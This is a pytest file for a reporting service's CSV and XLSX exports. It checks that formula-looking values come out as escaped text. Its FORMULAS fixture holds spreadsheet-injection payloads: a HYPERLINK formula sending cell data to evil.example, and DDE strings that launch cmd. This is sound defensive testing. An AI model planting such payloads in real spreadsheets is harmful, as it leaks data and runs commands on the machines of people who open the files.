"""Every formula-looking value comes out of the CSV and XLSX exports as text, as a spreadsheet reads it."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from stroom_platform.organisations import OrganisationsConfig
from stroom_platform.spreadsheets import looks_like_formula
from stroom_reporting.service import exports
from stroom_reporting.service.reports import Report, ReportTable, Scope

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def report_with(values: list[str], organisations: OrganisationsConfig) -> Report:
    organisation = organisations.organisations[0]
    code = organisation.municipalities[0].code
    rows = [
        {"municipality": code, "coach": value, "client_stream": "mediable", "count": 1} for value in values
    ]
    table = ReportTable("caseload", "Caseload", ["municipality", "coach", "client_stream", "count"], rows)
    scope = Scope(organisation, [code], {code: organisation.municipalities[0].name})
    return Report("caseload", "Caseload per klantmanager", scope, {"peildatum": "2024-01-31"}, None, [table])


def test_the_helper_knows_every_formula_start() -> None:
    assert all(looks_like_formula(v) for v in FORMULAS)
    assert not any(looks_like_formula(v) for v in ["klantmanager 7", "", "Geen klantmanager", 5, -3, None])


def test_csv_cells_are_prefixed_with_an_apostrophe(organisations: OrganisationsConfig) -> None:
    report = report_with([*FORMULAS, "gewone tekst"], organisations)
    text = exports.to_csv(report.tables[0]).removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    coaches = [row[1] for row in rows[1:]]
    assert coaches == [*("'" + v for v in FORMULAS), "gewone tekst"]
    for row in rows:
        for cell in row:
            assert not looks_like_formula(cell), cell


@pytest.mark.parametrize("value", FORMULAS)
def test_xlsx_cells_are_text_with_quote_prefix(organisations: OrganisationsConfig, value: str) -> None:
    workbook = load_workbook(io.BytesIO(exports.to_xlsx(report_with([value, "gewone tekst"], organisations))))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    # XML keeps no bare carriage return: it reads back as a line feed.
    planted = [cell for cell in cells if cell.value == value.replace("\r", "\n")]
    assert planted, "the value did not reach the workbook; the checks below would prove nothing"
    for cell in planted:
        assert cell.data_type == "s"
        assert cell.quotePrefix
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    plain = [cell for cell in cells if cell.value == "gewone tekst"]
    assert plain
    assert not plain[0].quotePrefix
